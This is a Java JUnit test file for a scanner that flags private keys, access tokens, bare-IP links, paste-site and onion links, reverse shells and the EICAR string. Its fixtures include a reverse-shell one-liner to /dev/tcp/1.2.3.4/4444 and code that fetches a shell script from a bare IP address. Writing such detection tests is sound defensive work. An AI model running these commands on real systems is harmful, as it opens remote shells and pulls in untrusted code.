package io.lazaretto.artifact.hidden;

import static io.lazaretto.artifact.hidden.TestingText.card;
import static io.lazaretto.artifact.hidden.TestingText.code;
import static io.lazaretto.artifact.hidden.TestingText.file;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Random;
import java.util.zip.CRC32;
import org.junit.jupiter.api.Test;

class SecretRulesTest {
    private static final String LETTERS = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
    private static final String EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*";

    private static String random(int from, int length) {
        Random random = new Random(7);
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            text.append(LETTERS.charAt(from + random.nextInt(LETTERS.length() - from)));
        }
        return text.toString();
    }

    private static String checked(String body) {
        CRC32 crc = new CRC32();
        crc.update(body.getBytes(StandardCharsets.US_ASCII));
        StringBuilder digits = new StringBuilder();
        for (long rest = crc.getValue(); digits.length() < 6; rest /= 62) {
            digits.insert(0, LETTERS.charAt((int) (rest % 62)));
        }
        return body + digits;
    }

    private static String key() {
        byte[] bytes = new byte[300];
        new Random(3).nextBytes(bytes);
        return "-----BEGIN RSA PRIVATE " + "KEY-----\n"
                + Base64.getMimeEncoder().encodeToString(bytes) + "\n-----END RSA PRIVATE " + "KEY-----\n";
    }

    @Test
    void aPrivateKeyIsSuspectAndNotShown() {
        file("id.txt", "key:\n" + key()).suspects("text.private-key").at(5).neverShows(key().substring(40, 60));
        file("config.json", "{\"k\": \"" + key().replace("\r", "").replace("\n", "\\n") + "\"}")
                .suspects("text.private-key");
    }

    @Test
    void aHeaderThatDocumentationQuotesIsNoKey() {
        card("Paste the block that begins with `-----BEGIN RSA PRIVATE " + "KEY-----` into the form.")
                .staysSilent();
        card("-----BEGIN PUBLIC KEY-----\n" + "A".repeat(64)).staysSilent();
    }

    @Test
    void tokensAreSuspectAndMasked() {
        String hub = "hf_" + random(36, 34).replaceAll("[0-9]", "q");
        code("login('" + hub + "')\n").suspects("text.access-token").at(7).neverShows(hub.substring(8));
        card("ghp_" + checked(random(0, 30))).suspects("text.access-token").at(0);
        file("a.json", "{\"k\": \"AKIA" + random(10, 16).toUpperCase().replaceAll("[0-9]", "7") + "\"}")
                .suspects("text.access-token");
    }

    @Test
    void placeholdersAndBrokenChecksAreNoTokens() {
        card("hf_" + "x".repeat(34) + " AKIAIOSFODNN7EXAMPLE ghp_" + random(0, 36))
                .staysSilent();
        card("use hf_hub_download and sk-learn, asia, npm_config_registry").staysSilent();
    }

    @Test
    void linksToBareAddressesAreSuspectInCodeAndANoteInProse() {
        String link = "http://45.77.12.9/a.sh";
        code("import urllib.request\nurllib.request.urlopen('" + link + "')\n")
                .suspects("text.address-link")
                .shows("45.77.12.9");
        file("config.json", "{\"u\": \"" + link + "\"}")
                .suspects("text.address-link")
                .at(11);
        card(link).passes();
        code("url = 'http://127.0.0.1:8000' or 'http://192.168.1.5' or 'https://huggingface.co'\n")
                .staysSilent();
    }

    @Test
    void dropsAndHiddenServicesAreSuspectInCode() {
        code("u = 'https://pastebin.com/raw/abc'\n").suspects("text.drop-link");
        code("u = 'http://" + "a2".repeat(28) + ".onion/x'\n").suspects("text.onion-link");
        code("u = 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'\n").suspects("text.reverse-shell");
        code("u = 'https://notpastebin.com/x'\n").staysSilent();
    }

    @Test
    void theTestStringOfVirusScannersIsAThreat() {
        file("eicar.txt", EICAR).threatens("text.eicar").at(0);
        file("a.json", "{\"a\": \"" + EICAR.replace("\\", "\\\\") + "\"}").threatens("text.eicar");
        card("The file ends in EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*").staysSilent();
    }
}
